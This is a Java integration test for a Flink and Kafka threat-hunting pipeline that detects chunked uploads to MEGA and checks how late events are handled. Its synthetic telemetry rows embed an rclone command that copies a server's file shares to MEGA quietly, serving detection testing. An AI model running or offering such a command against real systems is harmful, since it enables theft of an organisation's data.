package io.cloudexfil.hunt.pipeline;

import com.fasterxml.jackson.databind.JsonNode;

import io.cloudexfil.hunt.detection.DetectionPack;
import io.cloudexfil.hunt.functions.HuntWindow;

import io.cloudexfil.hunt.InJvmKafka;

import org.apache.flink.api.common.JobID;
import org.apache.flink.configuration.Configuration;
import org.apache.flink.core.execution.JobClient;
import org.apache.flink.metrics.Counter;
import org.apache.flink.runtime.testutils.InMemoryReporter;
import org.apache.flink.runtime.testutils.MiniClusterResourceConfiguration;
import org.apache.flink.test.junit5.MiniClusterExtension;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.NewTopic;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.apache.kafka.common.test.KafkaClusterTestKit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.function.BooleanSupplier;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * ManySmallUploads (detection chunked_cloud_upload) sums bytes in one-hour event-time windows. In a
 * stream a window is final once the watermark (latest event time minus the out-of-orderness, 5
 * minutes here) passes its end: an event that arrives out of order but within the bound still
 * counts; one that arrives after its window closed is dropped by Flink's window operator (counted
 * as numLateRecordsDropped) and changes no alert, while a batch run over the same events counts it.
 * The events go to a Kafka topic of flat DeviceNetworkEvents rows (one partition: read in the
 * order sent) while the job runs, at parallelism 1.
 */
class ChunkedUploadLateEventsITCase {

    static final InMemoryReporter METRICS = InMemoryReporter.create();

    @RegisterExtension
    static final MiniClusterExtension CLUSTER = new MiniClusterExtension(
            new MiniClusterResourceConfiguration.Builder()
                    .setNumberTaskManagers(1)
                    .setNumberSlotsPerTaskManager(2)
                    .setConfiguration(METRICS.addToConfiguration(new Configuration()))
                    .build());

    static final String TABLE = "DeviceNetworkEvents";
    static final long CHUNK = 4L * 1024 * 1024;
    static final String D1 = "1111111111111111111111111111111111111111";
    static final String D3 = "3333333333333333333333333333333333333333";
    static final String CLOCK = "9999999999999999999999999999999999999999";

    static String upload(String device, String time, long reportId, long bytes, String url) {
        return "{\"Timestamp\":\"2026-11-20T" + time + ".0000000Z\",\"DeviceId\":\"" + device
                + "\",\"DeviceName\":\"ws-" + device.substring(0, 4) + ".corp.contoso.com\",\"ActionType\":\"ConnectionSuccess\""
                + ",\"RemoteIP\":\"66.203.127.11\",\"RemotePort\":443,\"RemoteUrl\":\"" + url + "\""
                + ",\"InitiatingProcessFileName\":\"rclone.exe\",\"InitiatingProcessFolderPath\":\"C:\\\\ProgramData\\\\rclone.exe\""
                + ",\"InitiatingProcessCommandLine\":\"rclone.exe copy \\\\\\\\SERVER\\\\Shares Mega:DATA -q --ignore-existing\""
                + ",\"InitiatingProcessParentFileName\":\"cmd.exe\",\"InitiatingProcessAccountName\":\"svc_backup\""
                + ",\"ReportId\":" + reportId + ",\"BytesSent\":" + bytes + "}\n";
    }

    static String chunk(String device, String time, long reportId) {
        return upload(device, time, reportId, CHUNK, "gfs" + (262 + reportId % 40) + "n300.userstorage.mega.co.nz");
    }

    /**
     * A small upload of another device (512 bytes, far below any threshold): it only moves the
     * event time, and so the watermark, forward. It has to be an upload the detection counts: the
     * stream's source drops rows no detection's filter can keep before they reach the watermark
     * (a connection without bytes, or to a host off the list, does not move it).
     */
    static String clock(String time, long reportId) {
        return upload(CLOCK, time, reportId, 512, "gfs262n300.userstorage.mega.co.nz");
    }

    static void send(KafkaClusterTestKit kafka, String lines) {
        try (KafkaProducer<byte[], byte[]> p = new KafkaProducer<>(Map.of("bootstrap.servers", kafka.bootstrapServers()),
                new ByteArraySerializer(), new ByteArraySerializer())) {
            for (String line : lines.split("\n")) {
                p.send(new ProducerRecord<>(TABLE, 0, null, line.getBytes(StandardCharsets.UTF_8)));
            }
            p.flush();
        }
    }

    /** The source's current watermark (epoch ms). */
    static long sourceWatermark(JobID job) {
        long wm = Long.MIN_VALUE;
        for (org.apache.flink.metrics.groups.OperatorMetricGroup g : METRICS.findOperatorMetricGroups(job, ".*")) {
            if (g.getAllVariables().getOrDefault("<operator_name>", "").startsWith("Source")
                    && METRICS.getMetricsByGroup(g).get("currentOutputWatermark") instanceof org.apache.flink.metrics.Gauge<?> gauge
                    && gauge.getValue() instanceof Number n) {
                wm = Math.max(wm, n.longValue());
            }
        }
        return wm;
    }

    static JobID current;

    static void await(String what, BooleanSupplier condition, long seconds) throws InterruptedException {
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
        while (!condition.getAsBoolean()) {
            if (System.nanoTime() > deadline) {
                String state = "watermarks " + operatorMetrics(current, "currentOutputWatermark");
                trace("timed out waiting for " + what + "; " + state);
                throw new AssertionError("timed out waiting for " + what + "; " + state);
            }
            Thread.sleep(100);
        }
        trace("done: " + what);
    }

    static void trace(String line) {
        System.out.println(Instant.now() + " chunked_cloud_upload late events: " + line);
    }

    /** One metric of every operator of the job, by operator (diagnostics). */
    static String operatorMetrics(JobID job, String name) {
        if (job == null) {
            return "";
        }
        StringBuilder sb = new StringBuilder();
        for (org.apache.flink.metrics.groups.OperatorMetricGroup g : METRICS.findOperatorMetricGroups(job, ".*")) {
            org.apache.flink.metrics.Metric m = METRICS.getMetricsByGroup(g).get(name);
            Object v = m instanceof org.apache.flink.metrics.Gauge<?> gauge ? gauge.getValue()
                    : m instanceof Counter c ? (Object) c.getCount() : null;
            if (v != null) {
                sb.append(g.getAllVariables().getOrDefault("<operator_name>", "?")).append('=').append(v).append("; ");
            }
        }
        return sb.toString();
    }

    /** Records the window operators dropped as late (Flink's numLateRecordsDropped, summed). */
    static long lateRecordsDropped(JobID job) {
        long n = 0;
        for (org.apache.flink.metrics.groups.OperatorMetricGroup g : METRICS.findOperatorMetricGroups(job, ".*")) {
            if (METRICS.getMetricsByGroup(g).get("numLateRecordsDropped") instanceof Counter c) {
                n += c.getCount();
            }
        }
        return n;
    }

    static List<JsonNode> committed(Path out) {
        try {
            return StreamParityITCase.committedAlerts(out);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    static List<Long> ids(long first, int n) {
        List<Long> out = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            out.add(first + i);
        }
        return out;
    }

    @Test
    void eventsWithinTheBoundCountEventsLaterThanItChangeNoStreamAlert(@TempDir Path tmp) throws Exception {
        Path out = tmp.resolve("out");
        DetectionPack pack = DetectionPack.select(List.of("chunked_cloud_upload"));
        StringBuilder all = new StringBuilder(); // what the batch run reads afterwards
        try (KafkaClusterTestKit kafka = InJvmKafka.start()) {
            try (Admin admin = Admin.create(Map.of("bootstrap.servers", kafka.bootstrapServers()))) {
                admin.createTopics(List.of(new NewTopic(TABLE, 1, (short) 1))).all().get();
            }
            StreamHunt.Options options = new StreamHunt.Options(null, out.toString(), HuntWindow.unbounded(),
                    pack, 1, Duration.ofMillis(400), Duration.ofMinutes(5), Duration.ofMillis(300), Duration.ofHours(24),
                    null, null, false, false,
                    new StreamHunt.KafkaIn(kafka.bootstrapServers(), Map.of(TABLE, TABLE), true, "late-events", null), null);
            JobClient job = StreamHunt.start(options).getJobClient().orElseThrow();
            current = job.getJobID();
            trace("started " + current);
            try {
                // 1. device 1: twelve 4 MiB chunks to MEGA (48 MiB), device 3: twelve more (48 MiB), both in
                //    [10:00, 11:00); an event at 11:03 takes the watermark to 10:58
                StringBuilder first = new StringBuilder();
                for (int i = 0; i < 12; i++) {
                    first.append(chunk(D1, String.format("10:%02d:00", 10 + i), 1000 + i));
                    first.append(chunk(D3, String.format("10:%02d:00", 30 + i), 3000 + i));
                }
                first.append(clock("11:03:00", 9001));
                // 2. out of order by 4.5 minutes, within the bound: the window is still open, device 1 has 52 MiB
                first.append(chunk(D1, "10:58:30", 1012));
                // 3. the watermark passes 11:00: the window closes, device 1's alert is written
                first.append(clock("11:30:00", 9002));
                send(kafka, first.toString());
                all.append(first);
                await("device 1's alert", () -> committed(out).size() >= 1, 90);
                assertThat(sourceWatermark(job.getJobID())).isGreaterThanOrEqualTo(Instant.parse("2026-11-20T11:00:00Z").toEpochMilli());

                // 4. later than the bound: a chunk of each device in the closed window; the stream drops both
                String late = chunk(D1, "10:40:00", 1013) + chunk(D3, "10:45:00", 3012);
                send(kafka, late);
                all.append(late);
                await("late records dropped", () -> lateRecordsDropped(job.getJobID()) >= 2, 60);
                Thread.sleep(2500); // a few checkpoints: anything still pending would be committed by now
            } finally {
                trace("numLateRecordsDropped by operator: " + operatorMetrics(job.getJobID(), "numLateRecordsDropped"));
                try {
                    job.cancel().get(60, TimeUnit.SECONDS);
                } catch (Exception e) {
                    trace("cancel: " + e);
                }
            }
        }

        // the stream: device 1 alone, with the in-bound chunk and without the late one
        List<JsonNode> stream = committed(out);
        assertThat(stream).hasSize(1);
        JsonNode alert = stream.get(0);
        assertThat(alert.path("DeviceId").asText()).isEqualTo(D1);
        assertThat(alert.path("BytesSent").asLong()).isEqualTo(13 * CHUNK);
        assertThat(alert.path("ReportId").asLong()).isEqualTo(1012);
        assertThat(Instant.parse(alert.path("Timestamp").asText())).isEqualTo(Instant.parse("2026-11-20T10:58:30Z"));
        assertThat(alert.path("RemoteUrl").asText()).isEqualTo("mega.co.nz");
        List<Long> evidence = new ArrayList<>();
        alert.path("EvidenceReportIds").forEach(n -> evidence.add(n.asLong()));
        assertThat(evidence).containsExactlyElementsOf(ids(1000, 13));

        // a batch run over the same events counts the late chunks: device 1 has 56 MiB, device 3 52 MiB
        Path root = tmp.resolve("in");
        Files.createDirectories(root.resolve(TABLE));
        // plus a connection to a host off the list: the prefilter (has_any on the storage list) passes over its line
        all.append(upload(CLOCK, "10:20:00", 9003, 999_999_999L, "www.contoso.com"));
        Files.writeString(root.resolve(TABLE).resolve("events.jsonl"), all);
        BatchHunt.Result batch = BatchHunt.run(new BatchHunt.Options(root.toString(), tmp.resolve("batch").toString(),
                HuntWindow.unbounded(), pack, 1, null, false));
        List<JsonNode> batchAlerts = DetectionCase.readJsonLines(Path.of(batch.alertsFile()));
        assertThat(batchAlerts).hasSize(2);
        JsonNode d1 = batchAlerts.stream().filter(a -> a.path("DeviceId").asText().equals(D1)).findFirst().orElseThrow();
        JsonNode d3 = batchAlerts.stream().filter(a -> a.path("DeviceId").asText().equals(D3)).findFirst().orElseThrow();
        assertThat(d1.path("BytesSent").asLong()).isEqualTo(14 * CHUNK);
        assertThat(d1.path("ReportId").asLong()).as("still the last chunk by time").isEqualTo(1012);
        assertThat(d3.path("BytesSent").asLong()).isEqualTo(13 * CHUNK);
        assertThat(d3.path("ReportId").asLong()).isEqualTo(3012);
        assertThat(batch.counters()).as("lines passed over unparsed").containsEntry("unparsed." + TABLE, 1L);
    }
}
